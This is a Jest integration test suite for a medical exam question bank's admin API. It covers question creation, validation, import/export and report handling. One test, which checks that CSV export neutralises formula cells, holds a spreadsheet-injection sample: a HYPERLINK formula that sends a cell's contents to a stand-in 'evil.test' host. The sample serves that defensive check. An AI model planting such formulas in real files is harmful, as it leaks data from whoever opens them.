import { randomUUID } from 'node:crypto';
import { itemJsonSchema, type QuestionRecord } from '@medprep/shared';
import { stringify } from 'csv-stringify/sync';
import Redis from 'ioredis';
import { DataSource } from 'typeorm';
import { dataSourceOptions } from '../src/database/data-source';
import { readCsvRecords } from '../src/modules/questions/csv-records';
import { RedisKeys } from '../src/redis/keys';
import { signUp, type SignedUpUser } from './helpers/accounts';
import { changesHeard } from './helpers/change-feed';
import { grantSubscription } from './helpers/question-bank';
import { flushTestRedis } from './helpers/redis';
import { sampleRecordOfEveryType } from './helpers/sample-records';
import { createTestApp, type TestApp } from './helpers/test-app';
import { query, resultData } from './helpers/trpc';

/** Everything this suite creates carries the run's tag (its own three exams), so that afterAll can remove it. */
const RUN = randomUUID().slice(0, 8);
const EXAM_A = `aq-test-${RUN}-a`;
const EXAM_B = `aq-test-${RUN}-b`;
/** The exam the import and export tests fill with a record of every type. */
const EXAM_C = `aq-test-${RUN}-c`;
const key = (label: string) => `aq-${RUN}-${label}`;

function question(label: string, extra: Record<string, unknown> = {}) {
  return {
    key: key(label),
    exam: EXAM_A,
    topic: 'Endocrinology',
    type: 'sba',
    stem: `(${label}) A 45-year-old woman has weight loss, tremor and a fine tremor with a diffuse goitre and a bruit. What is the most likely diagnosis?`,
    options: [
      { key: 'A', text: "Graves' disease", explanation: 'Correct: a diffuse goitre with a bruit.' },
      { key: 'B', text: 'Toxic multinodular goitre', explanation: 'Nodular, older.' },
      { key: 'C', text: 'Subacute thyroiditis', explanation: 'Painful.' },
      { key: 'D', text: 'Toxic adenoma', explanation: 'Single nodule.' },
    ],
    answer: 'A',
    explanation: "A diffuse goitre with a bruit in a thyrotoxic woman points to Graves' disease (TSH-receptor antibodies).",
    references: [{ title: 'Thyroid disease: assessment and management', publisher: 'NICE', code: 'NG145', year: 2019 }],
    status: 'draft',
    ...extra,
  };
}

describe('admin questions REST', () => {
  let t: TestApp;
  let db: DataSource;
  let redis: Redis;
  let admin: SignedUpUser;
  let member: SignedUpUser;
  let examA: string;
  let examB: string;
  let examC: string;

  const as = (cookie: string) => ({
    get: (path: string) => t.http().get(path).set('Cookie', cookie),
    post: (path: string, body: object) => t.http().post(path).set('Cookie', cookie).send(body),
    patch: (path: string, body: object) => t.http().patch(path).set('Cookie', cookie).send(body),
    delete: (path: string) => t.http().delete(path).set('Cookie', cookie),
    send: (path: string, contentType: string, text: string) => t.http().post(path).set('Cookie', cookie).set('Content-Type', contentType).send(text),
  });
  const asAdmin = () => as(admin.cookie);
  const liveTotal = async (examId: string) => Number(await redis.hget(RedisKeys.examQuestionTotal(examId), 'total'));
  const create = async (label: string, extra: Record<string, unknown> = {}) =>
    (await asAdmin().post('/api/admin/questions', question(label, extra)).expect(201)).body as { id: string; key: string; status: string; record: QuestionRecord };
  /** The records of the exam's questions, as GET /:id gives them, by key. */
  const recordsOf = async (examId: string): Promise<QuestionRecord[]> => {
    const rows: Array<{ id: string }> = await db.query(`SELECT id FROM questions WHERE exam_id = $1 ORDER BY key`, [examId]);
    return Promise.all(rows.map(async ({ id }) => (await asAdmin().get(`/api/admin/questions/${id}`).expect(200)).body.record as QuestionRecord));
  };

  beforeAll(async () => {
    await flushTestRedis();
    t = await createTestApp();
    db = await new DataSource(dataSourceOptions(process.env.DATABASE_URL!)).initialize();
    redis = new Redis(process.env.REDIS_URL!);
    admin = await signUp(t, { firstName: 'Ada', surname: 'Admin' });
    member = await signUp(t);
    await db.query(`UPDATE users SET role = 'admin' WHERE id = $1`, [admin.id]);
    const exams = await db.query(
      `INSERT INTO exams (slug, title, description, category_id)
       SELECT s, 'Admin questions test ' || s, '', c.id FROM unnest($1::text[]) AS s, exam_categories c WHERE c.slug = 'medicine'
       RETURNING id, slug`,
      [[EXAM_A, EXAM_B, EXAM_C]],
    );
    const idOf = (slug: string) => exams.find((e: { slug: string }) => e.slug === slug).id as string;
    [examA, examB, examC] = [idOf(EXAM_A), idOf(EXAM_B), idOf(EXAM_C)];
  });

  afterAll(async () => {
    await db.query(`DELETE FROM subscriptions WHERE exam_id = ANY($1::uuid[])`, [[examA, examB, examC]]);
    await db.query(`DELETE FROM questions WHERE key LIKE $1`, [`aq-${RUN}-%`]);
    await db.query(`DELETE FROM exams WHERE slug = ANY($1)`, [[EXAM_A, EXAM_B, EXAM_C]]);
    await db.destroy();
    redis.disconnect();
    await t.close();
  });

  describe('the OpenAPI document', () => {
    it('should document the routes (so the admin access sweep covers them) and publish the JSON Schema of an item', async () => {
      const docs = await t.http().get('/api/docs-json').expect(200);
      type Operation = { requestBody?: { content: Record<string, { schema: unknown }> } };
      const paths = docs.body.paths as Record<string, Record<string, Operation>>;
      const schemas = docs.body.components.schemas as Record<string, { oneOf?: Array<{ properties: Record<string, unknown> }> }>;
      expect(Object.keys(paths['/api/admin/questions']).sort()).toEqual(['get', 'post']);
      expect(Object.keys(paths['/api/admin/questions/{id}']).sort()).toEqual(['delete', 'get', 'patch']);
      expect(Object.keys(paths['/api/admin/questions/import'])).toEqual(['post']);
      expect(Object.keys(paths['/api/admin/questions/export'])).toEqual(['get']);
      expect(Object.keys(paths['/api/admin/question-reports']).sort()).toEqual(['get']);
      expect(Object.keys(paths['/api/admin/question-reports/{id}']).sort()).toEqual(['patch']);

      const { $schema: _dialect, ...item } = itemJsonSchema();
      expect(schemas.Item).toEqual(item);
      const importBody = paths['/api/admin/questions/import'].post.requestBody!.content;
      expect(Object.keys(importBody).sort()).toEqual(['application/json', 'text/csv']);
      expect(JSON.stringify(importBody['application/json'].schema)).toContain('#/components/schemas/QuestionRecordDto');
      expect(JSON.stringify(paths['/api/admin/questions'].post.requestBody)).toContain('#/components/schemas/QuestionRecordDto');
      const recordTypes = schemas.QuestionRecordDto.oneOf!.map((variant) => (variant.properties.type as { enum: string[] }).enum[0]);
      expect(recordTypes).toEqual(['sba', 'mtf', 'emq', 'ranking', 'choose', 'numeric']);
      expect(Object.keys(schemas.QuestionRecordDto.oneOf![0].properties)).toEqual(expect.arrayContaining(['key', 'exam', 'topic', 'status', 'sample', 'options']));
    });
  });

  it('should refuse a visitor and a user without the admin role', async () => {
    await t.http().get('/api/admin/questions').expect(401);
    await t.http().get(`/api/admin/questions/export?exam=${EXAM_A}`).expect(401);
    await as(member.cookie).post('/api/admin/questions', question('x')).expect(403);
    await as(member.cookie).send('/api/admin/questions/import', 'application/json', JSON.stringify([question('x')])).expect(403);
    await as(member.cookie).get(`/api/admin/questions/export?exam=${EXAM_A}`).expect(403);
  });

  describe('POST /api/admin/questions', () => {
    it('should add a question, answer with its record and publish the exam total', async () => {
      const res = await asAdmin().post('/api/admin/questions', question('create', { status: 'live' })).expect(201);
      expect(res.body).toMatchObject({ key: key('create'), examId: examA, examSlug: EXAM_A, topic: 'Endocrinology', type: 'sba', status: 'live', sample: false });
      expect(res.body.record).toEqual({ ...question('create', { status: 'live' }), sample: false });
      expect(await liveTotal(examA)).toBe(1);
      expect(await redis.sismember(RedisKeys.examQuestionSet(examA), res.body.id)).toBe(1);
    });

    it('should add a record of every type and give back exactly what was sent', async () => {
      for (const record of sampleRecordOfEveryType(EXAM_B, key('every-create'))) {
        const res = await asAdmin().post('/api/admin/questions', record).expect(201);
        expect({ type: res.body.type, record: res.body.record }).toEqual({ type: record.type, record });
      }
    });

    it("should show a subscriber's dashboard the new exam total on the very next read", async () => {
      await grantSubscription(db, member.id, examB);
      await changesHeard(t);
      await create('dashboard-first', { exam: EXAM_B, status: 'live' });
      const totalOnDashboard = async () => {
        const overview = resultData<{ exams: Array<{ examId: string; totalQuestions: number }> }>((await query(t, 'performance.overview', undefined, member.cookie).expect(200)).body);
        return overview.exams.find((e) => e.examId === examB)!.totalQuestions;
      };
      const before = await totalOnDashboard();
      await create('dashboard-second', { exam: EXAM_B, status: 'live' });
      expect(await totalOnDashboard()).toBe(before + 1);
    });

    it('should refuse a key already in use with 409', async () => {
      const res = await asAdmin().post('/api/admin/questions', question('create')).expect(409);
      expect(res.body.code).toBe('QUESTION_KEY_TAKEN');
    });

    it.each([
      ['answer', { answer: 'F' }, 'must be one of the keys A, B, C, D'],
      ['options.1.text', { options: [question('x').options[0], { key: 'B', text: '', explanation: 'Empty.' }, ...question('x').options.slice(2)] }, 'must not be empty'],
      ['stem', { stem: 'Too short' }, 'must be at least 20 characters'],
      ['key', { key: 'Not A Key' }, 'must be 3–81 lower-case letters, digits and dashes'],
      ['references.0.year', { references: [{ title: 'Thyroid disease', publisher: 'NICE' }] }, 'must be a year'],
      ['type', { type: 'essay' }, 'must be one of sba, mtf, emq, ranking, choose, numeric'],
      ['statements', { type: 'mtf', options: undefined, answer: undefined }, 'is required'],
    ])('should refuse a bad %s with 400 naming the field', async (field, change, message) => {
      const res = await asAdmin().post('/api/admin/questions', question(`bad-${field.replace(/\./g, '-').toLowerCase()}`, change)).expect(400);
      expect(res.body.code).toBe('VALIDATION_FAILED');
      expect(res.body.message).toContain(`${field}: ${message}`);
      expect(res.body.details.fields).toEqual(expect.arrayContaining([{ field, message }]));
      await asAdmin().get(`/api/admin/questions?q=bad-${field.replace(/\./g, '-').toLowerCase()}`).expect(200, { records: [], total: 0, page: 1, limit: 50 });
    });

    it('should refuse an unknown field and an unknown exam', async () => {
      const extra = await asAdmin().post('/api/admin/questions', question('extra', { difficulty: 3 })).expect(400);
      expect(extra.body.message).toContain('difficulty');
      const exam = await asAdmin().post('/api/admin/questions', question('no-exam', { exam: 'no-such-exam' })).expect(400);
      expect(exam.body).toMatchObject({ code: 'UNKNOWN_EXAM', message: 'No exam has the slug or id "no-such-exam".' });
    });
  });

  describe('GET /api/admin/questions', () => {
    beforeAll(async () => {
      await create('list-1', { topic: 'Diabetes', stem: '(list-1) A 19-year-old student has polyuria, 100% sure of a ketone smell on the breath. What next?' });
      await create('list-2', { topic: 'Diabetes', status: 'live' });
      await create('list-3', { exam: EXAM_B });
    });

    it('should filter by exam slug and page through the results by key, each with its type', async () => {
      const first = await asAdmin().get(`/api/admin/questions?exam=${EXAM_A}&limit=2`).expect(200);
      expect(first.body).toMatchObject({ total: 3, page: 1, limit: 2 });
      expect(first.body.records.map((r: { key: string; type: string }) => [r.key, r.type])).toEqual([
        [key('create'), 'sba'],
        [key('list-1'), 'sba'],
      ]);
      expect(first.body.records[0]).not.toHaveProperty('record');
      const second = await asAdmin().get(`/api/admin/questions?exam=${EXAM_A}&limit=2&page=2`).expect(200);
      expect(second.body.records.map((r: { key: string }) => r.key)).toEqual([key('list-2')]);
    });

    it('should filter by type, showing an EMQ set by its theme and lead-in', async () => {
      const emq = await asAdmin().get(`/api/admin/questions?exam=${EXAM_B}&type=emq`).expect(200);
      expect(emq.body.records).toEqual([expect.objectContaining({ key: key('every-create-emq'), type: 'emq', stem: expect.stringContaining(': ') })]);
      await asAdmin().get(`/api/admin/questions?type=essay`).expect(400);
    });

    it('should filter by status, by topic in any case and by text in the stem', async () => {
      const live = await asAdmin().get(`/api/admin/questions?exam=${EXAM_A}&status=live`).expect(200);
      expect(live.body.records.map((r: { key: string }) => r.key)).toEqual([key('create'), key('list-2')]);
      const topic = await asAdmin().get(`/api/admin/questions?exam=${EXAM_A}&topic=diabetes`).expect(200);
      expect(topic.body.total).toBe(2);
      const text = await asAdmin().get(`/api/admin/questions?q=${encodeURIComponent('100% SURE')}`).expect(200);
      expect(text.body.records.map((r: { key: string }) => r.key)).toEqual([key('list-1')]);
      const wildcard = await asAdmin().get(`/api/admin/questions?exam=${EXAM_A}&q=${encodeURIComponent('_%')}`).expect(200);
      expect(wildcard.body.total).toBe(0);
    });

    it('should refuse an unknown exam and an out-of-range page or status', async () => {
      expect((await asAdmin().get('/api/admin/questions?exam=no-such-exam').expect(400)).body.code).toBe('UNKNOWN_EXAM');
      expect((await asAdmin().get('/api/admin/questions?limit=0').expect(400)).body.message).toEqual(expect.arrayContaining([expect.stringMatching(/^limit/)]));
      await asAdmin().get('/api/admin/questions?status=published').expect(400);
    });
  });

  describe('GET /api/admin/questions/:id', () => {
    it('should answer with the whole record, and 404 for an unknown id', async () => {
      const { id } = await create('get');
      const res = await asAdmin().get(`/api/admin/questions/${id}`).expect(200);
      expect(res.body).toMatchObject({ id, key: key('get'), type: 'sba', record: { ...question('get'), sample: false } });
      expect((await asAdmin().get(`/api/admin/questions/${randomUUID()}`).expect(404)).body.code).toBe('QUESTION_NOT_FOUND');
      await asAdmin().get('/api/admin/questions/not-a-uuid').expect(404);
    });
  });

  describe('PATCH /api/admin/questions/:id', () => {
    const image = { kind: 'svg', src: '/media/samples/ecg-rhythm-01.svg', alt: 'A rhythm strip of lead II at 25 mm/s', width: 600, height: 200 };

    it('should change only the fields given (a draft stays a draft), and remove an optional field given as null', async () => {
      const { id } = await create('patch', { media: [image] });
      const res = await asAdmin().patch(`/api/admin/questions/${id}`, { topic: 'Thyroid', answer: 'B' }).expect(200);
      expect(res.body.record).toEqual({ ...question('patch', { media: [image] }), topic: 'Thyroid', answer: 'B', sample: false });
      const cleared = await asAdmin().patch(`/api/admin/questions/${id}`, { media: null }).expect(200);
      expect(cleared.body.record).not.toHaveProperty('media');
      expect(cleared.body.record).toMatchObject({ topic: 'Thyroid', status: 'draft' });
    });

    it('should replace the whole item when the type changes, keeping the key, exam, topic and status', async () => {
      const { id } = await create('retype');
      const [, mtf] = sampleRecordOfEveryType(EXAM_A, key('unused'));
      const { key: _key, exam: _exam, topic: _topic, status: _status, sample: _sample, ...item } = mtf;
      const res = await asAdmin().patch(`/api/admin/questions/${id}`, item).expect(200);
      expect(res.body).toMatchObject({ type: 'mtf', record: { ...item, key: key('retype'), exam: EXAM_A, topic: 'Endocrinology', status: 'draft', sample: false } });
      expect(res.body.record).not.toHaveProperty('options');
    });

    it('should refuse a change that makes an invalid record, naming the field, and the key (imports match on it)', async () => {
      const { id } = await create('patch-bad');
      const answer = await asAdmin().patch(`/api/admin/questions/${id}`, { answer: 'F' }).expect(400);
      expect(answer.body).toMatchObject({ code: 'VALIDATION_FAILED', details: { fields: [{ field: 'answer', message: 'must be one of the keys A, B, C, D' }] } });
      const options = await asAdmin().patch(`/api/admin/questions/${id}`, { options: [{ key: 'A', text: 'Only one', explanation: 'Alone.' }] }).expect(400);
      expect(options.body.details.fields).toEqual([{ field: 'options', message: 'must have at least 3 options' }]);
      const retype = await asAdmin().patch(`/api/admin/questions/${id}`, { type: 'numeric' }).expect(400);
      expect(retype.body.details.fields.map((f: { field: string }) => f.field)).toEqual(expect.arrayContaining(['stem', 'value', 'unit', 'tolerance']));
      const keyChange = await asAdmin().patch(`/api/admin/questions/${id}`, { key: key('renamed') }).expect(400);
      expect(keyChange.body.details.fields).toEqual([{ field: 'key', message: 'cannot be changed: imports match questions on their key' }]);
      await asAdmin().patch(`/api/admin/questions/${id}`, { exam: 'no-such-exam' }).expect(400);
      await asAdmin().patch(`/api/admin/questions/${randomUUID()}`, { topic: 'Thyroid' }).expect(404);
      expect((await asAdmin().get(`/api/admin/questions/${id}`).expect(200)).body.record).toEqual({ ...question('patch-bad'), sample: false });
    });

    it('should move a live question to another exam and republish both totals', async () => {
      const { id } = await create('move', { status: 'live' });
      const beforeA = await liveTotal(examA);
      const res = await asAdmin().patch(`/api/admin/questions/${id}`, { exam: EXAM_B }).expect(200);
      expect(res.body).toMatchObject({ examId: examB, examSlug: EXAM_B, record: { exam: EXAM_B } });
      expect(await liveTotal(examA)).toBe(beforeA - 1);
      expect(await redis.sismember(RedisKeys.examQuestionSet(examB), id)).toBe(1);
    });

    it('should refuse to move a question users have already flagged or answered', async () => {
      const { id } = await create('used', { status: 'live' });
      await db.query(`INSERT INTO question_flags (user_id, question_id, exam_id) VALUES ($1, $2, $3)`, [member.id, id, examA]);
      const res = await asAdmin().patch(`/api/admin/questions/${id}`, { exam: EXAM_B }).expect(409);
      expect(res.body.code).toBe('QUESTION_ANSWERED');
      await asAdmin().patch(`/api/admin/questions/${id}`, { exam: EXAM_A, topic: 'Still allowed' }).expect(200);
      await db.query(`DELETE FROM question_flags WHERE question_id = $1`, [id]);
    });
  });

  describe('DELETE /api/admin/questions/:id', () => {
    it('should withdraw the question (its live version retired, not deleted) and take it out of the exam total', async () => {
      const { id } = await create('delete', { status: 'live' });
      const before = await liveTotal(examA);
      const res = await asAdmin().delete(`/api/admin/questions/${id}`).expect(200);
      expect(res.body).toMatchObject({ id, status: 'retired', version: 1 });
      expect(await liveTotal(examA)).toBe(before - 1);
      expect(await redis.sismember(RedisKeys.examQuestionSet(examA), id)).toBe(0);
      await asAdmin().delete(`/api/admin/questions/${id}`).expect(200);
      await asAdmin().get(`/api/admin/questions/${id}`).expect(200);
      await asAdmin().delete(`/api/admin/questions/${randomUUID()}`).expect(404);
    });
  });

  describe('import and export', () => {
    const everyType = () => sampleRecordOfEveryType(EXAM_C, key('every')).map((r) => ({ ...r, status: 'live' as const }));
    const exported = (format: string, extra = '') => asAdmin().get(`/api/admin/questions/export?exam=${EXAM_C}&format=${format}${extra}`);

    it('should import a JSON file of every type whole, and publish the exam total', async () => {
      const res = await asAdmin().send('/api/admin/questions/import', 'application/json', JSON.stringify({ exam: EXAM_C, questions: everyType() })).expect(200);
      expect(res.body).toMatchObject({ imported: 6, inserted: 6, updated: 0 });
      expect(await recordsOf(examC)).toEqual([...everyType()].sort((a, b) => a.key.localeCompare(b.key)));
      expect(await liveTotal(examC)).toBe(6);
    });

    it('should export every type as JSON in the seed format, and import the export back to the same records', async () => {
      const before = await recordsOf(examC);
      const res = await exported('json').expect(200);
      expect(res.headers['content-type']).toBe('application/json; charset=utf-8');
      expect(res.headers['content-disposition']).toBe(`attachment; filename="${EXAM_C}.json"`);
      const file = JSON.parse(res.text) as { exam: string; questions: Array<Record<string, unknown>> };
      expect(file.exam).toBe(EXAM_C);
      expect(file.questions.map((q) => q.type)).toEqual(before.map((r) => r.type));
      expect(file.questions.every((q) => !('exam' in q))).toBe(true);
      const again = await asAdmin().send('/api/admin/questions/import', 'application/json', res.text).expect(200);
      expect(again.body).toMatchObject({ imported: 6, inserted: 0, updated: 6 });
      expect(await recordsOf(examC)).toEqual(before);
    });

    it('should export single best answers as CSV, and import the CSV back to the same records', async () => {
      const before = (await recordsOf(examC)).filter((r) => r.type === 'sba');
      expect(before[0].media?.length).toBeGreaterThan(0);
      const res = await exported('csv', '&type=sba').expect(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(res.headers['content-disposition']).toBe(`attachment; filename="${EXAM_C}-sba.csv"`);
      expect(res.text.replace(/^\uFEFF/, '').split('\n')[0]).toMatch(/^key,exam,topic,stem,option_A,option_A_explanation,option_B,/);
      const [{ id }] = await db.query(`SELECT id FROM questions WHERE exam_id = $1 AND type = 'sba'`, [examC]);
      await asAdmin().patch(`/api/admin/questions/${id}`, { topic: 'Changed since the export', status: 'live' }).expect(200);
      const again = await asAdmin().send('/api/admin/questions/import', 'text/csv', res.text).expect(200);
      expect(again.body).toMatchObject({ imported: 1, inserted: 0, updated: 1 });
      // The import publishes its content as a new version, reviewed by the importer today.
      const today = new Date().toISOString().slice(0, 10);
      expect((await recordsOf(examC)).filter((r) => r.type === 'sba')).toEqual(before.map((r) => ({ ...r, reviewedAt: today })));
    });

    it('should neutralise cells a spreadsheet would run as a formula, and import them back to the same texts', async () => {
      const hyperlink = '=HYPERLINK("https://evil.test/?d="&A1,"Open the guideline")';
      const stem = '-5 mmol/L is the change in potassium after the infusion in this 70-year-old man. What is the next step?';
      const created = await create('formula-cells', {
        stem,
        options: [
          { key: 'A', text: hyperlink, explanation: '=1+1 is not an explanation a spreadsheet should compute.' },
          { key: 'B', text: '+ve troponin', explanation: '@SUM(A1:A9) stays text.' },
          { key: 'C', text: 'Subacute thyroiditis', explanation: 'Painful.' },
        ],
      });
      const res = await asAdmin().get(`/api/admin/questions/export?exam=${EXAM_A}&format=csv&type=sba`).expect(200);
      const [header, ...rows] = readCsvRecords(res.text);
      const row = rows.find((r) => r.fields[0] === created.key)!;
      const cell = (column: string) => row.fields[header.fields.indexOf(column)];
      expect(cell('option_A')).toBe(`'${hyperlink}`);
      expect(cell('option_A_explanation')).toBe("'=1+1 is not an explanation a spreadsheet should compute.");
      expect(cell('option_B')).toBe("'+ve troponin");
      expect(cell('option_B_explanation')).toBe("'@SUM(A1:A9) stays text.");
      expect(cell('stem')).toBe(`'${stem}`);
      expect(rows.flatMap((r) => r.fields).filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);

      const file = stringify([header.fields, row.fields]);
      await asAdmin().send('/api/admin/questions/import', 'text/csv', file).expect(200);
      const { reviewedAt: _before, ...before } = created.record;
      const { reviewedAt: _after, ...after } = (await asAdmin().get(`/api/admin/questions/${created.id}`).expect(200)).body.record as QuestionRecord;
      expect(after).toEqual(before);
      expect(after.type === 'sba' && after.options[0].text).toBe(hyperlink);
    });

    it('should refuse CSV for an exam with items of other types, naming them, and an unknown exam or format', async () => {
      const res = await exported('csv').expect(400);
      expect(res.body).toMatchObject({ code: 'EXPORT_CSV_SBA_ONLY', details: { others: { mtf: 1, emq: 1, ranking: 1, choose: 1, numeric: 1 } } });
      expect(res.body.message).toContain('export it as JSON');
      expect((await asAdmin().get('/api/admin/questions/export?exam=no-such-exam').expect(400)).body.code).toBe('UNKNOWN_EXAM');
      await exported('xlsx').expect(400);
      await asAdmin().get('/api/admin/questions/export').expect(400);
    });

    it('should write nothing from a CSV file with a bad line, and name each problem by line, column and field', async () => {
      const csv = (await exported('csv', '&type=sba').expect(200)).text;
      const [header, row] = csv.replace(/^\uFEFF/, '').split('\n');
      const newRow = (label: string) => row.replace(key('every-sba'), key(label));
      const badAnswer = newRow('csv-bad').replace(/,A,(?=")/, ',Z,');
      expect(badAnswer).not.toBe(newRow('csv-bad'));
      const text = [header, newRow('csv-good'), badAnswer, newRow('csv-good')].join('\n');
      const res = await asAdmin().send('/api/admin/questions/import', 'text/csv; charset=utf-8', text).expect(400);
      expect(res.body.code).toBe('IMPORT_INVALID');
      expect(res.body.details.issues).toEqual([
        { line: 3, column: 'answer', path: 'answer', message: 'must be a capital letter from A to T' },
        { line: 4, column: 'key', path: 'key', message: `'${key('csv-good')}' is already used on line 2` },
      ]);
      expect(res.body.message).toContain('line 3, answer: must be a capital letter from A to T');
      expect((await db.query(`SELECT count(*)::int AS n FROM questions WHERE key LIKE $1`, [`${key('csv-')}%`]))[0].n).toBe(0);
    });

    it('should write nothing from a JSON file with a bad item, naming the item, its line and the path', async () => {
      const [good, mtf] = sampleRecordOfEveryType(EXAM_C, key('json-bad'));
      const broken = { ...mtf, statements: mtf.type === 'mtf' ? mtf.statements.map((s, i) => (i === 2 ? { ...s, answer: 'true' } : s)) : [] };
      const text = JSON.stringify([good, broken], null, 2);
      const line = text.split('\n').flatMap((l, i) => (l === '  {' ? [i + 1] : []))[1];
      const res = await asAdmin().send('/api/admin/questions/import', 'application/json', text).expect(400);
      expect(res.body).toMatchObject({ code: 'IMPORT_INVALID', details: { issues: [{ line, item: 1, path: 'statements[2].answer', message: 'must be true or false' }] } });
      expect((await db.query(`SELECT count(*)::int AS n FROM questions WHERE key LIKE $1`, [`${key('json-bad')}%`]))[0].n).toBe(0);
    });

    it('should move an unanswered question to the exam its record names, but refuse to move one users have answered or flagged', async () => {
      const free = await create('import-move', { status: 'live' });
      const used = await create('import-used', { status: 'live' });
      await db.query(`INSERT INTO question_flags (user_id, question_id, exam_id) VALUES ($1, $2, $3)`, [member.id, used.id, examA]);
      const moved = (label: string) => ({ ...question(label, { status: 'live' }), exam: EXAM_B });
      const refused = await asAdmin().send('/api/admin/questions/import', 'application/json', JSON.stringify([moved('import-move'), moved('import-used')])).expect(400);
      expect(refused.body.details.issues).toEqual([
        { line: 1, item: 1, path: 'exam', message: `cannot move '${key('import-used')}' to another exam: it has been answered in its own; add a new question instead` },
      ]);
      const beforeA = await liveTotal(examA);
      await asAdmin().send('/api/admin/questions/import', 'application/json', JSON.stringify([moved('import-move')])).expect(200);
      expect((await asAdmin().get(`/api/admin/questions/${free.id}`).expect(200)).body.examId).toBe(examB);
      expect(await liveTotal(examA)).toBe(beforeA - 1);
      expect(await redis.sismember(RedisKeys.examQuestionSet(examB), free.id)).toBe(1);
      await db.query(`DELETE FROM question_flags WHERE question_id = $1`, [used.id]);
    });

    it('should refuse a body that is neither JSON nor CSV of questions, and one over the size limit, with a message', async () => {
      expect((await asAdmin().send('/api/admin/questions/import', 'application/xml', '<questions/>').expect(400)).body.code).toBe('IMPORT_MEDIA_TYPE');
      await asAdmin().send('/api/admin/questions/import', 'text/plain', 'key,exam').expect(415);
      expect((await asAdmin().send('/api/admin/questions/import', 'application/json', '{"exam": 1').expect(400)).body.code).toBe('IMPORT_UNREADABLE');
      expect((await asAdmin().send('/api/admin/questions/import', 'application/json', '[]').expect(400)).body.code).toBe('IMPORT_UNREADABLE');
      expect((await asAdmin().send('/api/admin/questions/import', 'text/csv', 'key,difficulty\n').expect(400)).body.message).toContain("unknown column 'difficulty'");
      const huge = await asAdmin().send('/api/admin/questions/import', 'text/csv', 'x'.repeat(10 * 1024 * 1024 + 1)).expect(413);
      expect(huge.body.message).toBe('The request body is too large.');
    });
  });

  describe('question reports', () => {
    let reportId: string;

    beforeAll(async () => {
      const { id } = await create('reported');
      [{ id: reportId }] = await db.query(`INSERT INTO question_reports (user_id, question_id, message) VALUES ($1, $2, $3) RETURNING id`, [
        member.id,
        id,
        'Option B is also defensible.',
      ]);
    });

    it('should list open reports with the question key, exam and reporter', async () => {
      const res = await asAdmin().get('/api/admin/question-reports?status=open').expect(200);
      expect(res.body).toMatchObject({ page: 1, limit: 50 });
      expect(res.body.records).toEqual(
        expect.arrayContaining([
          expect.objectContaining({ id: reportId, questionKey: key('reported'), examSlug: EXAM_A, userEmail: member.email, message: 'Option B is also defensible.', status: 'open' }),
        ]),
      );
    });

    it('should accept a report, reject one only with a reply, and refuse an illegal move with a 409', async () => {
      await asAdmin().patch(`/api/admin/question-reports/${reportId}`, { status: 'open' }).expect(400);
      await asAdmin().patch(`/api/admin/question-reports/${reportId}`, {}).expect(400);
      expect((await asAdmin().patch(`/api/admin/question-reports/${reportId}`, { status: 'rejected' }).expect(400)).body.code).toBe('REPORT_REPLY_REQUIRED');
      const res = await asAdmin().patch(`/api/admin/question-reports/${reportId}`, { status: 'accepted' }).expect(200);
      expect(res.body).toMatchObject({ id: reportId, status: 'accepted', questionKey: key('reported') });
      const open = await asAdmin().get('/api/admin/question-reports?status=open').expect(200);
      expect(open.body.records.map((r: { id: string }) => r.id)).not.toContain(reportId);
      const accepted = await asAdmin().get('/api/admin/question-reports?status=accepted').expect(200);
      expect(accepted.body.records.map((r: { id: string }) => r.id)).toContain(reportId);
      expect((await asAdmin().patch(`/api/admin/question-reports/${reportId}`, { status: 'rejected', reply: 'It stands.' }).expect(409)).body.code).toBe('ILLEGAL_REPORT_TRANSITION');
    });

    it('should answer 404 for an unknown report and 400 for an unknown status filter', async () => {
      expect((await asAdmin().patch(`/api/admin/question-reports/${randomUUID()}`, { status: 'accepted' }).expect(404)).body.code).toBe('QUESTION_REPORT_NOT_FOUND');
      await asAdmin().get('/api/admin/question-reports?status=closed').expect(400);
    });
  });
});
